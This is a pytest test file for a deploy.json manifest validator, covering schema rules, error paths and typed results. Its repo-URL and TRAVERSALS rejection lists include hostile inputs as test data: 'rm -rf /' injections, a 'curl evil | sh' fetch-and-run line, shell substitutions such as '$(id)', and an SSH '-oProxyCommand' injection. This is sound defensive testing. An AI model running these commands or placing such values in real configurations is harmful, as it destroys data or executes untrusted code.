"""deploy.json: every rule, every error at once with its JSON path, typed results."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from pytest_homelab.core.manifest import (
    CiSpec,
    Manifest,
    ManifestInvalid,
    ManifestIssue,
    Service,
    check_manifest,
    load_manifest,
    parse_manifest,
    schema,
    validate_document,
)
from pytest_homelab.core.outcomes import BadInput
from tests.samples import SHA

ROOT = Path(__file__).parents[2]
E: list[str | int] = ["environments", "dev"]
CI: list[str | int] = [*E, "ci"]
S0: list[str | int] = [*E, "services", 0]
S1: list[str | int] = [*E, "services", 1]

MakeDoc = Callable[..., dict[str, Any]]

DNS_LABEL = (
    "must be a DNS label: at most 63 lowercase letters, digits and '-', "
    "starting and ending with a letter or digit"
)
SCRIPT_RULE = (
    "must match scripts/ci/<name>.sh with <name> of ASCII letters, digits, '.', '_', '-', "
    "not starting with '.' or '-', no '..', 128 characters at most"
)
REPO_RULE = (
    "must be a git URL: https://, http://, ssh:// or scp-style user@host:path, "
    "without credentials, spaces or shell characters"
)
IMAGE_RULE = (
    "must be an image repository like registry.example.test/team/web: lowercase path parts, "
    "a registry host with a '.' or a port, no tag or digest"
)
TIMEOUT_RULE = "must be a whole number of milliseconds from 1000 (1 s) to 86400000 (24 h)"


def messages(doc: object) -> list[str]:
    return [str(issue) for issue in validate_document(doc)]


# -- good documents and typed results --------------------------------------------------------


def test_good_document_parses_to_typed_objects(make_doc: MakeDoc) -> None:
    m = parse_manifest(json.dumps(make_doc()), "deploy.json")
    assert m.schema_version == 2 and m.source == "deploy.json"
    dev = m.environment(None)
    assert dev.name == "dev"
    assert dev.ci == CiSpec(
        "https://git.example.test/homelab/app", "scripts/ci/dev-e2e.sh", 1800000
    )
    web, api = dev.services
    assert web == Service(name="web", namespace="apps", image="registry.example.test/h/web")
    assert (web.deployment, web.kind, web.container, web.commit) == (
        "web",
        "Deployment",
        None,
        None,
    )
    assert (api.deployment, api.container, api.kind, api.commit, api.target) == (
        "api-server",
        "api",
        "StatefulSet",
        SHA,
        "apps/api-server",
    )
    assert api.image == "registry.example.test:5000/h/api"
    assert m.all_namespaces() == frozenset({"apps"})


def test_results_are_frozen(make_doc: MakeDoc) -> None:
    m = parse_manifest(json.dumps(make_doc()), "deploy.json")
    service = m.environment("dev").services[0]
    with pytest.raises(AttributeError):
        service.image = "other"  # type: ignore[misc]
    assert isinstance(m.environment("dev").services, tuple)


def test_minimal_document_and_bytes_with_bom() -> None:
    text = '{"schemaVersion": 2, "environments": {"prod": {"services": []}}}'
    m = parse_manifest(b"\xef\xbb\xbf" + text.encode(), "origin/master:deploy.json")
    assert m.environment(None).services == () and m.environment(None).ci is None
    assert m.all_namespaces() == frozenset()


def test_numbers_written_as_floats_become_ints(make_doc: MakeDoc) -> None:
    doc = make_doc([*CI, "timeoutMs"], 60000.0)
    doc["schemaVersion"] = 2.0
    m = parse_manifest(json.dumps(doc), "deploy.json")
    ci = m.environment("dev").ci
    assert ci is not None and type(ci.timeout_ms) is int and type(m.schema_version) is int


def test_the_example_at_the_repo_root_validates() -> None:
    m = load_manifest(ROOT / "deploy.json")
    assert list(m.environments) == ["dev", "prod"]
    dev = m.environment("dev")
    assert dev.ci is not None and dev.ci.script_path == "scripts/ci/dev-e2e.sh"
    assert m.environment("prod").ci is None
    assert len({s.namespace for s in m.environment("prod").services}) == 2
    assert all(s.image.startswith("registry.example.test/") for s in dev.services)
    code, lines = check_manifest(ROOT / "deploy.json")
    assert (code, lines) == (
        0,
        [
            f"{ROOT / 'deploy.json'}: valid (schemaVersion 2; "
            "environments: dev (3 services, ci), prod (4 services))"
        ],
    )


def test_environment_choice(make_doc: MakeDoc) -> None:
    doc = make_doc([*E[:1], "prod"], {"services": []})
    m = parse_manifest(json.dumps(doc), "deploy.json")
    assert m.environment("prod").services == ()
    with pytest.raises(BadInput) as several:
        m.environment(None)
    assert "several environments (dev, prod)" in str(several.value)
    assert "--env" in str(several.value) and "env in [tool.homelab]" in str(several.value)
    with pytest.raises(BadInput, match=r"no environment 'qa' \(it has: dev, prod\)"):
        m.environment("qa")


def test_all_namespaces_spans_every_environment(make_doc: MakeDoc) -> None:
    doc = make_doc(["environments", "prod"], {"services": []})
    doc["environments"]["prod"]["services"] = [
        {"name": "web", "namespace": "edge", "image": "registry.example.test/h/web"}
    ]
    m = parse_manifest(json.dumps(doc), "deploy.json")
    assert m.all_namespaces() == frozenset({"apps", "edge"})


def test_the_schema_is_valid_draft_2020_12_and_documented() -> None:
    doc = schema()
    Draft202012Validator.check_schema(doc)
    assert doc["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert doc["$id"] and doc["title"] and doc["description"]

    def walk(node: object, where: str) -> None:
        if isinstance(node, dict):
            for name, prop in node.get("properties", {}).items():
                assert isinstance(prop.get("description"), str), f"{where}.{name}"
                assert len(prop["description"]) > 20, f"{where}.{name}"
            if any(k in node for k in ("pattern", "maxLength", "minimum", "enum", "minProperties")):
                assert "x-rule" in node, where
            for key, child in node.items():
                if key != "not":  # the rule of a `not` is its parent's
                    walk(child, f"{where}.{key}")
        elif isinstance(node, list):
            for child in node:
                walk(child, where)

    walk(doc, "#")
    service = doc["$defs"]["service"]["properties"]
    assert service["kind"]["default"] == "Deployment"


# -- every rule, one at a time ---------------------------------------------------------------


RULES: list[tuple[list[str | int], object, str]] = [
    (["schemaVersion"], 1, "schemaVersion: unsupported version 1 (supported: 2)"),
    (["schemaVersion"], 3, "schemaVersion: unsupported version 3 (supported: 2)"),
    (["schemaVersion"], "2", "schemaVersion: unsupported version '2' (supported: 2)"),
    (["schemaVersion"], True, "schemaVersion: unsupported version true (supported: 2)"),
    (["$schema"], 5, "$schema: must be a string: the path or URL of the schema (got 5)"),
    (
        ["environments"],
        {},
        "environments: must be an object with at least one environment (got {})",
    ),
    (
        ["environments"],
        [],
        "environments: must be an object with at least one environment (got [])",
    ),
    (
        ["extra"],
        1,
        "extra: unknown key (allowed: $schema, environments, schemaVersion)",
    ),
    (
        ["environments", "Dev"],
        {"services": []},
        f"environments.Dev: environment name {DNS_LABEL}",
    ),
    (
        ["environments", "a.b"],
        {"services": []},
        f'environments["a.b"]: environment name {DNS_LABEL}',
    ),
    (
        E,
        [],
        "environments.dev: must be an object with services and optionally ci (got [])",
    ),
    (
        [*E, "services"],
        {},
        "environments.dev.services: must be a list of services ([] for none) (got {})",
    ),
    ([*E, "stuff"], 1, "environments.dev.stuff: unknown key (allowed: ci, services)"),
    (
        CI,
        "scripts/ci/x.sh",
        "environments.dev.ci: must be an object with exactly repo, scriptPath and timeoutMs"
        " (got 'scripts/ci/x.sh')",
    ),
    (
        [*CI, "script"],
        "echo hi",
        "environments.dev.ci.script: unknown key (allowed: repo, scriptPath, timeoutMs)",
    ),
    (
        [*CI, "scriptPath"],
        "../x.sh",
        f"environments.dev.ci.scriptPath: {SCRIPT_RULE} (got '../x.sh')",
    ),
    (
        [*CI, "scriptPath"],
        ["scripts/ci/x.sh"],
        f"""environments.dev.ci.scriptPath: {SCRIPT_RULE} (got ["scripts/ci/x.sh"])""",
    ),
    ([*CI, "timeoutMs"], 1.5, f"environments.dev.ci.timeoutMs: {TIMEOUT_RULE} (got 1.5)"),
    ([*CI, "timeoutMs"], 999, f"environments.dev.ci.timeoutMs: {TIMEOUT_RULE} (got 999)"),
    (
        [*CI, "timeoutMs"],
        86400001,
        f"environments.dev.ci.timeoutMs: {TIMEOUT_RULE} (got 86400001)",
    ),
    ([*CI, "timeoutMs"], "60000", f"environments.dev.ci.timeoutMs: {TIMEOUT_RULE} (got '60000')"),
    ([*CI, "timeoutMs"], True, f"environments.dev.ci.timeoutMs: {TIMEOUT_RULE} (got true)"),
    ([*CI, "repo"], "git.example.test/x", f"environments.dev.ci.repo: {REPO_RULE}"),
    ([*CI, "repo"], "https://h/x;id", f"environments.dev.ci.repo: {REPO_RULE}"),
    ([*CI, "repo"], "https://h/$(id)", f"environments.dev.ci.repo: {REPO_RULE}"),
    ([*CI, "repo"], "https://h/x y", f"environments.dev.ci.repo: {REPO_RULE}"),
    ([*CI, "repo"], "https://h/x\n", f"environments.dev.ci.repo: {REPO_RULE}"),
    ([*CI, "repo"], "https://user:secret@h/x", f"environments.dev.ci.repo: {REPO_RULE}"),
    ([*CI, "repo"], "-oProxyCommand=id@h:x", f"environments.dev.ci.repo: {REPO_RULE}"),
    ([*CI, "repo"], "file:///srv/git/x", f"environments.dev.ci.repo: {REPO_RULE}"),
    ([*CI, "repo"], "ftp://h/x", f"environments.dev.ci.repo: {REPO_RULE}"),
    ([*S0, "name"], "Web", f"environments.dev.services[0].name: {DNS_LABEL} (got 'Web')"),
    ([*S0, "name"], "a" * 64, f"environments.dev.services[0].name: {DNS_LABEL}"),
    ([*S0, "name"], 7, f"environments.dev.services[0].name: {DNS_LABEL} (got 7)"),
    ([*S0, "namespace"], "a_b", f"environments.dev.services[0].namespace: {DNS_LABEL}"),
    ([*S0, "namespace"], "-ns", f"environments.dev.services[0].namespace: {DNS_LABEL}"),
    (
        [*S0, "deployment"],
        "-x",
        "environments.dev.services[0].deployment: must be a DNS subdomain",
    ),
    ([*S0, "deployment"], "a..b", "environments.dev.services[0].deployment: must be a DNS sub"),
    ([*S0, "container"], "a.b", f"environments.dev.services[0].container: {DNS_LABEL}"),
    ([*S0, "container"], None, f"environments.dev.services[0].container: {DNS_LABEL} (got null)"),
    (
        [*S0, "image"],
        "web:1.2",
        "environments.dev.services[0].image: must be an image repository without tag or digest"
        " (got 'web:1.2')",
    ),
    (
        [*S0, "image"],
        "registry.example.test:5000/team/web:latest",
        "environments.dev.services[0].image: must be an image repository without tag",
    ),
    (
        [*S0, "image"],
        "r.test/web@sha256:" + "a" * 64,
        "environments.dev.services[0].image: must be an image repository without tag or digest",
    ),
    (
        [*S0, "image"],
        "Registry/Web",
        f"environments.dev.services[0].image: {IMAGE_RULE} (got 'Registry/Web')",
    ),
    ([*S0, "image"], "web/", f"environments.dev.services[0].image: {IMAGE_RULE}"),
    ([*S0, "image"], "", f"environments.dev.services[0].image: {IMAGE_RULE}"),
    ([*S0, "image"], "https://r.test/web", f"environments.dev.services[0].image: {IMAGE_RULE}"),
    (
        [*S0, "commit"],
        SHA[:12],
        "environments.dev.services[0].commit: must be a full 40-character lowercase hex"
        f" commit sha (got '{SHA[:12]}')",
    ),
    ([*S0, "commit"], SHA.upper(), "environments.dev.services[0].commit: must be a full 40"),
    ([*S0, "commit"], SHA + "0", "environments.dev.services[0].commit: must be a full 40"),
    (
        [*S0, "kind"],
        "Job",
        "environments.dev.services[0].kind: must be Deployment, StatefulSet or DaemonSet"
        " (got 'Job')",
    ),
    ([*S0, "kind"], "deployment", "environments.dev.services[0].kind: must be Deployment"),
    (
        [*S0, "replicas"],
        3,
        "environments.dev.services[0].replicas: unknown key (allowed: commit, container,"
        " deployment, image, kind, name, namespace, probe)",
    ),
    (S1, "web", "environments.dev.services[1]: must be an object with name, namespace and image"),
]


@pytest.mark.parametrize(("path", "value", "expected"), RULES)
def test_each_rule_names_its_path(
    make_doc: MakeDoc, path: list[str | int], value: object, expected: str
) -> None:
    found = messages(make_doc(path, value))
    assert len(found) == 1, found
    assert found[0].startswith(expected), found


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (["schemaVersion"], "schemaVersion: is required"),
        (["environments"], "environments: is required"),
        ([*E, "services"], "environments.dev.services: is required"),
        ([*CI, "repo"], "environments.dev.ci.repo: is required"),
        ([*CI, "scriptPath"], "environments.dev.ci.scriptPath: is required"),
        ([*CI, "timeoutMs"], "environments.dev.ci.timeoutMs: is required"),
        ([*S0, "name"], "environments.dev.services[0].name: is required"),
        ([*S0, "namespace"], "environments.dev.services[0].namespace: is required"),
        ([*S0, "image"], "environments.dev.services[0].image: is required"),
    ],
)
def test_required_keys(make_doc: MakeDoc, path: list[str | int], expected: str) -> None:
    assert messages(make_doc(path, delete=True)) == [expected]


@pytest.mark.parametrize(
    "path", [["$schema"], CI, [*S1, "deployment"], [*S1, "container"], [*S1, "commit"]]
)
def test_optional_keys(make_doc: MakeDoc, path: list[str | int]) -> None:
    assert messages(make_doc(path, delete=True)) == []


@pytest.mark.parametrize(
    "image",
    [
        "web",
        "team/web",
        "registry.example.test/team/web",
        "registry.example.test:5000/team/sub/web",
        "localhost:5000/web",
        "ghcr.io/o-r/a__b.c-d",
        "Registry.Example.test/web",
    ],
)
def test_good_images(make_doc: MakeDoc, image: str) -> None:
    assert messages(make_doc([*S0, "image"], image)) == []


@pytest.mark.parametrize(
    "repo",
    [
        "https://github.com/pikasTech/unidesk",
        "https://git.example.test:8443/homelab/app.git",
        "http://127.0.0.1:3000/o/r",
        "ssh://git@git.example.test:2222/o/r.git",
        "git@github.com:pikasTech/unidesk.git",
        "forgejo@git.example.test:group/sub/repo",
    ],
)
def test_good_repos(make_doc: MakeDoc, repo: str) -> None:
    assert messages(make_doc([*CI, "repo"], repo)) == []


def test_unknown_keys_are_each_reported(make_doc: MakeDoc) -> None:
    doc = make_doc([*S0, "zz"], 1)
    doc["environments"]["dev"]["services"][0]["replicas"] = 2
    assert [m.split(":")[0] for m in messages(doc)] == [
        "environments.dev.services[0].replicas",
        "environments.dev.services[0].zz",
    ]


def test_all_errors_are_reported_together_and_sorted(make_doc: MakeDoc) -> None:
    doc = make_doc([*S0, "image"], "web:1")
    doc["environments"]["dev"]["ci"]["scriptPath"] = "/abs.sh"
    doc["environments"]["dev"]["services"][1]["kind"] = "Pod"
    doc["environments"]["dev"]["services"][1]["commit"] = "abc"
    doc["environments"]["dev"]["ci"]["timeoutMs"] = 5
    del doc["environments"]["dev"]["ci"]["repo"]
    doc["environments"]["prod"] = {"services": [{"name": "x"}]}
    found = messages(doc)
    assert [m.split(": ")[0] for m in found] == [
        "environments.dev.ci.repo",
        "environments.dev.ci.scriptPath",
        "environments.dev.ci.timeoutMs",
        "environments.dev.services[0].image",
        "environments.dev.services[1].commit",
        "environments.dev.services[1].kind",
        "environments.prod.services[0].image",
        "environments.prod.services[0].namespace",
    ]
    with pytest.raises(ManifestInvalid) as info:
        parse_manifest(json.dumps(doc), "origin/master:deploy.json")
    text = str(info.value)
    assert text.startswith("origin/master:deploy.json is not a valid deploy.json (8 problems):")
    assert all(f"  origin/master:deploy.json: {m}" in text for m in found)
    assert [str(e) for e in info.value.errors] == found
    assert all(isinstance(e, ManifestIssue) for e in info.value.errors)
    assert isinstance(info.value, BadInput) and info.value.exit_code == 2


def test_paths_sort_numerically(make_doc: MakeDoc) -> None:
    doc = make_doc(
        [*E, "services"],
        [{"name": f"s{n}", "namespace": "apps", "image": "BAD"} for n in range(12)],
    )
    paths = [m.split(":")[0] for m in messages(doc)]
    assert paths == [f"environments.dev.services[{n}].image" for n in range(12)]


def test_one_message_per_path(make_doc: MakeDoc) -> None:
    # too long *and* not a label: one line, not one per failed keyword
    found = messages(make_doc([*S0, "name"], "A" * 100))
    assert len(found) == 1 and found[0].startswith("environments.dev.services[0].name: must be")


def test_duplicate_service_names_and_targets(make_doc: MakeDoc) -> None:
    doc = make_doc()
    services = doc["environments"]["dev"]["services"]
    services.append({"name": "web", "namespace": "edge", "image": "r.test/x"})
    services.append(
        {"name": "api2", "namespace": "apps", "deployment": "api-server", "kind": "StatefulSet"}
        | {"image": "r.test/x"}
    )
    # same name in another environment, same deployment name with another kind: both fine
    services.append({"name": "w2", "namespace": "apps", "deployment": "web", "kind": "DaemonSet"})
    services[-1]["image"] = "r.test/x"
    doc["environments"]["prod"] = {"services": [services[0]]}
    assert messages(doc) == [
        "environments.dev.services[2].name: duplicate service name 'web' (services[0] and [2])",
        "environments.dev.services[3]: duplicate target StatefulSet 'apps/api-server'"
        " (services[1] and [3] verify the same workload)",
    ]


def test_default_deployment_counts_for_duplicate_targets(make_doc: MakeDoc) -> None:
    doc = make_doc()
    doc["environments"]["dev"]["services"].append(
        {"name": "web2", "namespace": "apps", "deployment": "web", "image": "r.test/x"}
    )
    assert messages(doc) == [
        "environments.dev.services[2]: duplicate target Deployment 'apps/web'"
        " (services[0] and [2] verify the same workload)"
    ]


def test_unknown_schema_version_reports_only_the_version() -> None:
    assert messages({"schemaVersion": 3, "environments": {"x": {"weird": True}}}) == [
        "schemaVersion: unsupported version 3 (supported: 2)"
    ]


def test_long_values_and_keys_are_truncated(make_doc: MakeDoc) -> None:
    (msg,) = messages(make_doc([*S0, "image"], "x" * 5000 + ":tag"))
    assert len(msg) < 200 and msg.endswith("...)")
    (msg,) = messages(make_doc([*S0, "k" * 5000], 1))
    assert len(msg) < 200 and msg.startswith('environments.dev.services[0]["kkk')
    (msg,) = messages(make_doc([*S0, "image"], list(range(10000))))
    assert len(msg) < 300
    (msg,) = messages(make_doc([*S0, "image"], "a\nb\x1b[2J"))
    assert "\n" not in msg and "\x1b" not in msg


# -- bad JSON, wrong top level, files --------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", "line 1 column 1: invalid JSON: Expecting value"),
        ("{", "line 1 column 2: invalid JSON"),
        (
            '{"schemaVersion": 2,\n "environments": {,}}',
            "line 2 column 19: invalid JSON: Expecting property name enclosed in double quotes",
        ),
        ('{"a": 1}\n{"b": 2}', "line 2 column 1: invalid JSON: Extra data"),
        ('{"a": NaN}', "(file): invalid JSON: NaN is not JSON"),
        ('{"a": -Infinity}', "(file): invalid JSON: -Infinity is not JSON"),
        ("[" * 5000 + "]" * 5000, "(file): invalid JSON: nested too deeply"),
        ('{"a": ' + "1" * 5000 + "}", "(file): invalid JSON: Exceeds the limit"),
        (
            '{"schemaVersion": 2, "schemaVersion": 2, "environments": {}}',
            "(file): duplicate key 'schemaVersion'",
        ),
        ("[]", "(top level): must be a JSON object (got array)"),
        ("null", "(top level): must be a JSON object (got null)"),
        ('"deploy"', "(top level): must be a JSON object (got string)"),
        ("2", "(top level): must be a JSON object (got number)"),
        (b"\xff\xfe{}", "(file): not UTF-8 (byte 0)"),
    ],
)
def test_bad_json(text: str | bytes, expected: str) -> None:
    with pytest.raises(ManifestInvalid) as info:
        parse_manifest(text, "deploy.json")
    (issue,) = info.value.errors
    assert str(issue).startswith(expected), issue
    assert str(info.value).startswith("deploy.json is not a valid deploy.json (1 problem):")


def test_deep_but_valid_json_is_refused_before_validation(make_doc: MakeDoc) -> None:
    deep: object = []
    for _ in range(500):
        deep = [deep]
    assert messages(make_doc([*E, "x"], deep)) == ["(top level): nests deeper than 64 levels"]


def test_missing_file_directory_and_unreadable(tmp_path: Path) -> None:
    with pytest.raises(BadInput) as missing:
        load_manifest(tmp_path / "deploy.json")
    assert f"no deploy.json at {tmp_path / 'deploy.json'}" in str(missing.value)
    assert "create one" in str(missing.value) and "--deploy-json" in str(missing.value)
    assert not isinstance(missing.value, ManifestInvalid)
    with pytest.raises(BadInput, match="is a directory"):
        load_manifest(tmp_path)
    code, lines = check_manifest(tmp_path / "deploy.json")
    assert code == 2 and lines[0].startswith("no deploy.json at") and "--deploy-json" in lines[1]


def test_check_manifest_prints_every_error_with_the_file(tmp_path: Path, make_doc: MakeDoc) -> None:
    path = tmp_path / "deploy.json"
    doc = make_doc([*S0, "image"], "web:1.2")
    doc["environments"]["dev"]["ci"]["scriptPath"] = "../x.sh"
    path.write_text(json.dumps(doc, indent=2))
    code, lines = check_manifest(path)
    assert code == 2
    assert lines == [
        f"{path}: environments.dev.ci.scriptPath: {SCRIPT_RULE} (got '../x.sh')",
        f"{path}: environments.dev.services[0].image: must be an image repository without tag"
        " or digest (got 'web:1.2')",
    ]
    path.write_text("{\n  oops\n}")
    assert check_manifest(path) == (
        2,
        [
            f"{path}: line 2 column 3: invalid JSON: "
            "Expecting property name enclosed in double quotes"
        ],
    )


def test_manifest_roundtrips_through_load(tmp_path: Path, make_doc: MakeDoc) -> None:
    path = tmp_path / "deploy.json"
    path.write_text(json.dumps(make_doc()))
    m = load_manifest(path)
    assert isinstance(m, Manifest) and m.source == str(path)
    assert m == parse_manifest(path.read_bytes(), str(path))


# -- scriptPath: traversal, inline shell, look-alikes ---------------------------------------


TRAVERSALS = [
    "../x.sh",
    "/abs.sh",
    "/scripts/ci/x.sh",
    "scripts/ci/../../x.sh",
    "scripts/ci/../x.sh",
    "scripts/ci/a/b.sh",
    "scripts/ci/x.sh;rm -rf /",
    "scripts/ci/x.sh\n",
    "scripts/ci/x.sh\nrm -rf /",
    "scripts/ci/x.sh\r",
    "scripts/ci/.hidden.sh",
    "scripts/ci/-x.sh",
    "scripts/ci/x．sh",  # fullwidth full stop
    "scripts／ci/x.sh",  # fullwidth solidus
    "scripts/ci∕x.sh",  # division slash
    "scripts/ci/x\u2024sh",  # one dot leader
    "scripts/ci/x.SH",
    "scripts/ci/x.Sh",
    "Scripts/ci/x.sh",
    "scripts/CI/x.sh",
    "scripts\\ci\\x.sh",
    "scripts/ci\\x.sh",
    "scripts/ci/..\\x.sh",
    "$(id).sh",
    "scripts/ci/$(id).sh",
    "scripts/ci/${IFS}.sh",
    "scripts/ci/`id`.sh",
    "scripts/ci/x y.sh",
    "scripts/ci/x\ty.sh",
    "scripts/ci/x|y.sh",
    "scripts/ci/x&y.sh",
    "scripts/ci/x>y.sh",
    "scripts/ci/*.sh",
    "scripts/ci/~.sh",
    "scripts/ci/.sh",
    "scripts/ci/x..sh",
    "scripts/ci/a..b.sh",
    "./scripts/ci/x.sh",
    "scripts/./ci/x.sh",
    "scripts/ci//x.sh",
    "scripts/ci/x.sh.txt",
    "scripts/ci/x.sh/",
    "scripts/ci/x.py",
    "scripts/ci/x",
    "scripts/ci/ｘ.sh",  # fullwidth letter
    "scripts/ci/x\u200b.sh",  # zero-width space
    "scripts/cі/x.sh",  # Cyrillic i
    "scripts/ci/é.sh",
    "scripts/ci/x.sh\x00",
    "scripts/ci/x'.sh",
    'scripts/ci/x".sh',
    "",
    "scripts/ci/" + "a" * 200 + ".sh",
    "echo hi",
    "bash -c 'curl evil | sh'",
    "https://evil.example/x.sh",
    "C:\\scripts\\ci\\x.sh",
]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_script_path_traversal_and_inline_shell_are_rejected(make_doc: MakeDoc, path: str) -> None:
    (msg,) = messages(make_doc([*CI, "scriptPath"], path))
    assert msg.startswith(f"environments.dev.ci.scriptPath: {SCRIPT_RULE} (got "), msg


@pytest.mark.parametrize(
    "path",
    [
        "scripts/ci/dev-e2e.sh",
        "scripts/ci/a.b_c-d.sh",
        "scripts/ci/X1.sh",
        "scripts/ci/_.sh",
        "scripts/ci/x.sh.sh",
        "scripts/ci/" + "a" * 114 + ".sh",
    ],
)
def test_good_script_paths(make_doc: MakeDoc, path: str) -> None:
    assert messages(make_doc([*CI, "scriptPath"], path)) == []
    m = parse_manifest(json.dumps(make_doc([*CI, "scriptPath"], path)), "deploy.json")
    ci = m.environment("dev").ci
    assert ci is not None and ci.script_path == path
